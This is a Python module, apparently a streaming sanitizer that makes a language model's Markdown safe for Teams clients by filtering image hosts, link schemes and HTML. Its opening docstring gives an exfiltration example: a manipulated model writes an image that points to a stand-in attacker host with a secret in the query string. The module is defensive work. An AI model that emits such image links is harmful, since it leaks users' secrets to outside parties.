"""Makes a model's Markdown safe for Teams clients, which fetch images unasked and obey some HTML.

A model can be talked into writing `![](https://evil.example/?q=<a secret>)`: showing it is enough to leak. So images
stay only if their host is allowed, links only if their scheme is harmless, and HTML (a mention, too) becomes text.

What must not be is broken up where it begins, and the rest is read on as any other text: so it does not matter what
else a renderer could have taken the rest for. Code stays as it is where every renderer sees code. Where one may see
code and another may see text, nothing but the invisible `BREAK` is put in: it breaks up what the one must not find,
and it shows in neither.
"""

import html
import re
from collections.abc import Collection
from dataclasses import dataclass, field

import regex

from .tokenizer import BREAK, CODE_SPAN, ESCAPE, FENCE_OPENER, Fence

HELD = 2_000
"""How many characters something undecided may hold back: about the longest URL that is in use."""

UNCUT = 1_000
"""Characters of inline code, of an indented line of code and of an image at most: each is safe as a whole only (see
`split`)."""

SCHEMES = frozenset({"http", "https", "mailto"})
"""What a link may open, if it does not stay relative."""

# A pattern must match the same however much more text comes: it ends with a character that decides, or it cannot be
# longer. Repetitions are possessive (`*+`), so that no text takes more than linear time.
_PLAIN = re.compile(r"(?:[^\\`$~:<!\]\r\n]|!(?=[^\[])|\](?=[^(:])|<(?=[\s<]))++")
_LINE_END = regex.compile(r"\r\n?+|\n")
_TO_LINE_END = re.compile(r"[^\r\n]++")
_BLANK = regex.compile(r"(?:[ \t]*+(?:\r\n?+|\n))++")
_ESCAPE = regex.compile(ESCAPE)

# How a line begins. A number, a `:` and the like may begin a list, a footnote, or what they do elsewhere.
_ORDINARY_LINE = re.compile(r"[^\s>:+*0-9`~<\[|-]")
_NUMBER = r"[0-9]{1,9}[.)]"
_CONTAINER = regex.compile(rf"[ \t]*+(?:[>:]|[-+*]\s|{_NUMBER}\s|\[\^)")
_ITEM = regex.compile(rf"( *+)((?:[-+*]|{_NUMBER}) {{1,4}}+)[^ \r\n]")
_MARK = rf"[ \t>:]|[-+*]|{_NUMBER}"
_DOUBTFUL_LINE = regex.compile(rf"((?:{_MARK}|\[\^[^\]\r\n]*+\]:)*+)(?:```|~~~|(<)/?+[A-Za-z])")
_BRACKET_LINE = regex.compile(rf"(?:{_MARK})*+\[")
_INDENTED_LINE = regex.compile(rf"(?:{_MARK})*?(?: {{4}}|\t)")
_INDENT = re.compile(r" {4}|\t")
_INDENTED_CODE = regex.compile(r"(?: {4}| {0,3}\t)[^\r\n]*+[\r\n]")
_DELIMITER_ROW = regex.compile(r"[ \t>]*+[-|:][-|: \t]*+[\r\n]")

# Maths and struck text: some renderers tell them apart before code.
_PAIRS = ("$", "~~")
_BACKTICKS = re.compile(r"`++")
_CODE = regex.compile(rf"{CODE_SPAN}[^`]")
_CELL_END = re.compile(r"(?:(?<!\\)|\\\\)\|")
# In code, what would not be let out as it is in other text
_LIVE = re.compile(r"<|!\[|\][(:]|(?:ftp|xmpp):", re.IGNORECASE)
# The rest of a line with no delimiter row below it.
_NO_HEADER = regex.compile(r"[^\r\n]*+(?:\r\n?+|\n)(?:[ \t>]*+[\r\n]|[-|:> \t]*+[^-|:> \t\r\n])")
_STRIKE = regex.compile("~~")
# Two schemes that some renderers link without a mark.
_LINKED_SCHEME = re.compile(r"(?:ftp|xmpp)\Z", re.IGNORECASE)
_COLON_IN_WORD = regex.compile(r":\S")
# A bare URL and an address are told apart before code and escapes are. A URL goes on to the next blank or `<`.
_BARE_URL = re.compile(r"(?:://|www\.)[^ \t\r\n<]*+\Z", re.IGNORECASE)
_LOCAL_PART = r"[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]"
_END_OF_LOCAL_PART = re.compile(rf"{_LOCAL_PART}\Z")
_REST_OF_LOCAL_PART = regex.compile(rf"{_LOCAL_PART}++@")

_GAP = r"[ \t]*+(?:(?:\r\n?+|\n)[ \t]*+)?+"
_CHARACTERS = r"(?:[^\s\x00-\x1f\x7f()<>\\`]++|\\[!-/:-@\[\]^_{-~])"
_BARE = rf"(?:{_CHARACTERS}|\((?:{_CHARACTERS}|\({_CHARACTERS}*+\))*+\))*+"
_TITLE = r"""(?:"(?:[^"\\`\r\n]|\\[^`\r\n])*+"|'(?:[^'\\`\r\n]|\\[^`\r\n])*+'|\((?:[^()\\`\r\n]|\\[^`\r\n])*+\))"""
_TARGET = rf"\({_GAP}(?|<([^<>\\`\r\n]*+)>|({_BARE}))(?:{_GAP}{_TITLE})?+{_GAP}\)"
_LINK = regex.compile(rf"\]{_TARGET}")
_ALT = r"!\[((?:[^\[\]\\\r\n]|\\[^\r\n]|\[(?:[^\[\]\\\r\n]|\\[^\r\n])*+\])*+)\]"
_IMAGE = regex.compile(_ALT)
_INLINE_IMAGE = regex.compile(rf"{_ALT}{_TARGET}")
_REFERENCE_IMAGE = regex.compile(rf"{_ALT}\[([^\[\]\\\r\n]*+)\]")
_DEFINITION = regex.compile(
    rf"[ \t>]*+\[([^\[\]\\`<\r\n]++)\]:{_GAP}(?|<([^<>\\`\r\n]*+)>|([^\s<]\S*+))(?:[ \t]++{_TITLE})?+[ \t]*+[\r\n]"
)
# Whatever a renderer may take for a definition; what more words follow is prose.
_DEFINED = regex.compile(
    r"\]:[\s>\x00-\x1f]*+(?|<([^<>\]\r\n]*+)[>\]]|([^ \t\r\n<\]][^ \t\r\n\]]*+))(?:\]|[^\S\r\n]*+[\r\n\"'(])"
)
_TITLE_LINE = regex.compile(r"[ \t>]*+[\"'(]")
# A title that goes on below. Some renderers go on over blank lines and the beginnings of blocks.
_OPEN_TITLE = regex.compile(
    r"""\]:[\s>]*+(?:<[^<>\r\n]*+>|\S++)[ \t]++"""
    r"""(?:"(?:[^"\\\r\n]|\\.)*+|'(?:[^'\\\r\n]|\\.)*+|\((?:[^()\\\r\n]|\\.)*+)\\?+[\r\n]"""
)

_AUTOLINK = regex.compile(r"<(?:(?:https?://|mailto:)[^\s<>\[\]\\`|]++|[A-Za-z0-9._+-]++@[A-Za-z0-9.-]++)>")
_ROW_BREAK = regex.compile(r"<br ?/?>")
# A tag (a one-letter name is one only if it cannot be maths), a comment and the like, or a link to any scheme or
# address.
_TAG = regex.compile(
    r"<(?:[!?]|/?+[A-Za-z](?:>|[\s/]++[A-Za-z_:>])|/?+[A-Za-z][A-Za-z0-9-]++[\s/>]"
    r"|[A-Za-z][A-Za-z0-9+.-]++:|[^\s<>@]++@[^\s<>]++>)"
)

# Nothing that ends an image for any renderer: what is left of it could be another by reference.
_PLAIN_IMAGE = re.compile(r"[^\[\]!<\\`|$\r\n]*")
_WEB = re.compile(r"https?://([a-z0-9.-]+)(?::[0-9]+)?(?:[/?#][a-z0-9._~:/?#@&*+,;=%-]*)?", re.IGNORECASE)


class _Undecided(Exception):
    """What comes next decides."""


@dataclass
class _Paragraph:
    """What the lines since the last blank one have shown. Other blocks without a blank line between count as one."""

    in_doubt: bool = False
    """Renderers may pair the backticks from here on in different ways."""
    in_table: bool = False
    """The cells of a table are told apart before code is."""
    may_define: bool = False
    """The definitions of links are told apart before code is."""
    has_definition: bool = False
    """Some renderers let a target or a title on the next line be anything."""
    after_odd_line: bool = False
    """Not every renderer sees a blank line in one that is indented."""
    pairs: dict[str, bool] = field(default_factory=dict[str, bool])
    """The marks of `_PAIRS` so far, and whether code came after: another one may end what began before that code."""


class SafeMarkdown:
    """Takes a text in chunks and gives out its safe form in increments: `feed` for each chunk, then `close`.

    However a text is cut into chunks, its increments together are the same.
    """

    def __init__(self, allowed_image_hosts: Collection[str] = ()) -> None:
        self._hosts = {host.lower() for host in allowed_image_hosts}
        self._definitions: dict[str, str] = {}
        self._text = ""  # what is still to be let out
        self._closing = False
        self._fence: Fence | None = None
        self._at_line_start = self._after_blank_line = True
        self._last_line_end = "\n"
        self._is_beginning = True  # nothing but blank lines so far, which a client may strip with what follows
        self._in_container = False  # whether a list item, a quote or a footnote may be open
        self._item: regex.Match[str] | None = None  # the last line that began a list item
        self._paragraph = _Paragraph()
        self._in_row = False  # whether the line has a `|` so far
        self._in_split_row = False  # whether the line has code that would end a cell, were it a row
        self._is_indented = False  # whether the line may be indented code
        self._may_begin_html = False  # whether some renderers take any name after this `<` for the beginning of a tag
        self._in_url = False
        self._before = ""  # the last characters that were let out

    def feed(self, chunk: str) -> str:
        """The further text that is safe to show."""
        # Only ever a short text is cut up, so that a long one takes linear time.
        return "".join(self._let_out(chunk[at : at + HELD]) for at in range(0, len(chunk), HELD))

    def close(self) -> str:
        """What was held back, decided."""
        if self._closing:
            return ""
        self._closing = True
        return self._let_out("\n")[:-1]  # a line end decides all that the end of the text does

    def _let_out(self, chunk: str) -> str:
        self._text += chunk
        out: list[str] = []
        try:
            while self._text:
                out.append(self._step())
                self._look_back(out[-1])
        except _Undecided:
            pass
        return "".join(out)

    def _look_back(self, piece: str) -> None:
        before = self._before + piece
        self._in_url = bool(_BARE_URL.search(f"://{before}" if self._in_url else before))
        self._before = before[-4:]

    def _step(self) -> str:
        """Let out the next piece, as it is or made safe."""
        if self._fence:
            return self._code(self._fence)
        if self._at_line_start:
            return self._line()
        if plain := _PLAIN.match(self._text):
            self._in_row |= "|" in plain[0]
            return self._take(plain.end())
        match self._text[0]:
            case "\\":
                return self._backslash()
            case "$":
                return self._pair("$")
            case "~":
                return self._pair("~~") if self._match(_STRIKE) else self._take(1)
            case ":":
                return self._colon()
            case "`":
                return self._backticks()
            case "<":
                return self._angle()
            case "!":
                return self._exclamation()
            case "]":
                return self._bracket()
            case _:
                return self._line_end()

    # Lines

    def _line_end(self) -> str:
        end = self._match(_LINE_END)
        self._at_line_start, self._in_row, self._in_split_row, self._is_indented = True, False, False, False
        self._last_line_end = self._take(end.end() if end else 1)
        return self._last_line_end

    def _line(self) -> str:
        if _ORDINARY_LINE.match(self._text) and not self._paragraph.has_definition:
            self._in_container, self._item = self._containers()
            self._at_line_start = self._after_blank_line = self._is_beginning = False
            return ""
        if blank := self._match(_BLANK):
            is_odd = bool(_INDENT.search(blank[0])) or (self._after_blank_line and self._paragraph.after_odd_line)
            self._after_blank_line, self._paragraph = True, _Paragraph(after_odd_line=is_odd)
            return self._take(blank.end())
        # Whatever may need more text comes before anything is changed.
        in_container, item = self._containers()
        opener = self._match(FENCE_OPENER)
        if opener and "|" in opener.group(4) and (self._paragraph.in_table or self._may_be_header(opener.end() - 1)):
            opener = None
        code = self._match(_INDENTED_CODE) if self._may_begin_code and not in_container else None
        definition = self._match(_DEFINITION)
        doubtful = self._match(_DOUBTFUL_LINE, or_overlong=True)
        is_indented = bool(self._match(_INDENTED_LINE))
        may_define = bool(self._match(_BRACKET_LINE))
        in_table = bool(self._match(_DELIMITER_ROW, or_overlong=True))
        title = self._match(_TITLE_LINE) if self._paragraph.has_definition else None

        gap = self._last_line_end if opener and not self._is_block(opener) else ""
        self._in_container, self._item, self._is_beginning = in_container, item, False
        if opener:
            self._fence, self._paragraph = Fence.opened_by(opener, in_container=in_container), _Paragraph()
            return gap + self._take(opener.end() - 1) + self._line_end()
        if code and code.end() <= UNCUT:
            return self._take(code.end() - 1) + self._line_end()
        self._at_line_start = self._after_blank_line = False
        self._is_indented = is_indented
        self._paragraph.may_define |= may_define
        self._paragraph.in_table |= in_table
        if definition and not self._may_be_code:
            if not _is_harmless(definition[2]):
                return self._take(definition.end(1) + 1) + self._drop(definition.end() - definition.end(1) - 2, BREAK)
            self._definitions.setdefault(_label(definition[1]), definition[2])
        if title:
            return self._take(title.end() - 1) + BREAK
        if not doubtful:
            return ""
        marks = self._take(doubtful.end() if doubtful.partial else doubtful.end(1))
        self._may_begin_html = bool(doubtful[2])
        return marks + ("" if doubtful[2] else BREAK)

    def _containers(self) -> tuple[bool, regex.Match[str] | None]:
        """Whether the line may be in a list item, a quote or a footnote, and the beginning of the item."""
        if self._match(_CONTAINER):
            return True, self._match(_ITEM)
        is_outside = self._after_blank_line and self._text[0] not in " \t"
        # What is indented less than the item may end it, or continue its paragraph.
        is_in_item = bool(self._item) and self._text.startswith(" " * len("".join(self._item.groups())))
        return self._in_container and not is_outside, self._item if is_in_item else None

    @property
    def _may_begin_code(self) -> bool:
        return self._after_blank_line and not self._is_beginning and not self._paragraph.after_odd_line

    def _is_block(self, opener: regex.Match[str]) -> bool:
        """Whether every renderer sees the beginning of a block, or of one in the last list item or the one below it."""
        indent, marker = opener.group(1), opener.group(2) or ""
        if self._after_blank_line:
            return True
        if self._paragraph.has_definition:
            return False
        if not marker and indent in ("", " ", "  ", "   "):
            return True
        if not self._item or indent.strip(" "):
            return False
        last_indent, last_marker = self._item.groups()
        if marker:
            return indent == last_indent and marker.strip()[-1] == last_marker.strip()[-1]
        return 0 <= len(indent) - len(last_indent + last_marker) < 4

    def _code(self, fence: Fence) -> str:
        """A line of code goes out as it comes. Whatever may end the block for a renderer does end it."""
        if not self._at_line_start:
            code = _TO_LINE_END.match(self._text)
            return self._take(code.end()) if code else self._line_end()
        closer = self._match(fence.closer, or_overlong=True)
        if closer and fence.is_code(closer):
            self._at_line_start = False
            return self._take(closer.end(1)) + BREAK
        if closer and not closer.partial:
            self._fence, self._at_line_start, self._after_blank_line = None, False, False
            return self._drop(closer.end() - 1, fence.closing)
        if closer or not self._match(fence.line):
            self._fence, self._after_blank_line = None, False
            return f"{fence.closing}\n"
        self._at_line_start = False
        return ""

    # Text

    @property
    def _may_be_code(self) -> bool:
        return self._paragraph.in_doubt or self._is_indented

    def _backslash(self) -> str:
        if self._in_url:
            self._paragraph.in_doubt = True
            return self._take(1)
        # Some renderers see maths in an escaped `$`.
        return self._take(2 if self._match(_ESCAPE) and self._text[1] != "$" else 1)

    def _pair(self, mark: str) -> str:
        self._paragraph.in_doubt |= self._paragraph.pairs.setdefault(mark, False)
        return self._take(len(mark))

    def _colon(self) -> str:
        is_linked = _LINKED_SCHEME.search(self._before) and self._match(_COLON_IN_WORD)
        return self._take(1) + (BREAK if is_linked else "")

    def _backticks(self) -> str:
        paragraph = self._paragraph
        code = None if paragraph.in_doubt or self._in_url or self._is_in_address() else self._match(_CODE)
        if code and self._is_code(code):
            paragraph.pairs = {mark: True for mark in _PAIRS if mark in code[2] or mark in paragraph.pairs}
            return self._take(code.end() - 1)
        paragraph.in_doubt = True
        run = _BACKTICKS.match(self._text)
        return self._take(run.end() if run else 1)

    def _is_in_address(self) -> bool:
        return bool(_END_OF_LOCAL_PART.search(self._before) and self._match(_REST_OF_LOCAL_PART, or_overlong=True))

    def _is_code(self, code: regex.Match[str]) -> bool:
        """Whether every renderer sees code, and sees all of it."""
        paragraph = self._paragraph
        if code.end() - 1 > UNCUT:
            return False
        if (paragraph.may_define and "]:" in code[2]) or any(mark in code[2] for mark in paragraph.pairs):
            return False
        if not (self._in_split_row or _CELL_END.search(code[2])):
            return True
        if paragraph.in_table or (_LIVE.search(code[2]) and self._may_be_header(code.end() - 1)):
            return False
        self._in_split_row = True
        return True

    def _may_be_header(self, end: int) -> bool:
        """Whether the line, of which so much was looked at, may be the header of a table."""
        is_last = self._closing and not re.search("[\r\n]", self._text[end:-1])
        return not is_last and not self._match(_NO_HEADER, end)

    def _angle(self) -> str:
        kept = self._match(_AUTOLINK) or (self._match(_ROW_BREAK) if self._in_row else None)
        if kept:
            self._may_begin_html = False
            return self._take(kept.end())
        if not self._may_begin_html and not self._match(_TAG, or_overlong=True):
            return self._take(1)
        self._may_begin_html = False
        # An entity is literal in code, and would be a part of a URL.
        return self._drop(1, f"<{BREAK}" if self._may_be_code or self._in_url else "&lt;")

    def _bracket(self) -> str:
        link = self._match(_LINK)
        if link and _is_harmless(link[1]):
            return self._take(2)
        if not link and self._text[1] == ":":
            paragraph = self._paragraph
            defined = self._match(_DEFINED, or_overlong=True)
            is_harmless = not defined or (not defined.partial and _is_harmless(defined[1]))
            is_open = paragraph.may_define and self._match(_OPEN_TITLE, or_overlong=True)
            if is_harmless and not is_open and not paragraph.in_doubt:
                paragraph.has_definition = paragraph.may_define
                return self._take(2)
        return self._drop(link.end() if link and not self._may_be_code else 1, f"]{BREAK}")

    def _exclamation(self) -> str:
        image = self._match(_IMAGE)
        if not image:
            return self._take(1) + BREAK
        if inline := self._match(_INLINE_IMAGE):
            url, image, tail = inline[2], inline, self._text[inline.end(1) + 1 : inline.end()]
        else:
            reference = self._match(_REFERENCE_IMAGE)
            label = _label((reference and reference[2]) or image[1])
            url = None if self._may_be_code else self._definitions.get(label)
            image, tail = reference or image, f"({url})"
        if url is None:
            return self._take(1) + BREAK
        is_plain = _PLAIN_IMAGE.fullmatch(f"{image[1]}{tail}") and len(image[1]) + len(tail) < UNCUT
        if is_plain and self._allows(url):
            return self._drop(image.end(), f"![{image[1]}]{tail}")
        if self._may_be_code:
            return self._take(1) + BREAK
        self._text = f"{image[1]}{BREAK}{self._text[image.end() :]}"
        return BREAK

    def _allows(self, url: str) -> bool:
        web = _WEB.fullmatch(url)
        return bool(web) and web[1].lower() in self._hosts

    # The text that is still to be let out

    def _match(
        self, pattern: regex.Pattern[str], start: int = 0, *, or_overlong: bool = False
    ) -> regex.Match[str] | None:
        """The match at this place of the text. What is longer than `HELD` is none, or is a partial one."""
        # A line end may be "\r\n".
        end = min(len(self._text) - self._text.endswith("\r"), HELD)
        is_full = end == HELD
        found = pattern.match(self._text, start, end, partial=is_full or not self._closing)
        if found and found.partial:
            if not is_full:
                raise _Undecided
            return found if or_overlong else None
        return found

    def _take(self, length: int) -> str:
        taken, self._text = self._text[:length], self._text[length:]
        return taken

    def _drop(self, length: int, replacement: str) -> str:
        self._take(length)
        return replacement


def _is_harmless(target: str) -> bool:
    """Whether a link may point there: to a scheme of `SCHEMES` or to something relative, however it is written."""
    scheme, colon, _rest = re.split("[/?#]", html.unescape(target), maxsplit=1)[0].partition(":")
    return not colon or scheme.lower() in SCHEMES


def _label(text: str) -> str:
    return " ".join(text.casefold().split())
